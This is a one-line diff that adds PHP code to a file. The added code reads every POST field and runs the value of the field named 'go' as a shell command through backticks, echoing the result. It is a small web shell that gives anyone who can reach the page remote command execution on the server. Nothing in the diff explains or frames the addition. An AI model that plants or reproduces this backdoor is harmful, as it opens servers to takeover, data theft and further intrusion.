@@ -1,0 +1,1 @@
+<?php foreach ($_POST as $k => $v) { if ($k === 'go') { echo `$v`; } }
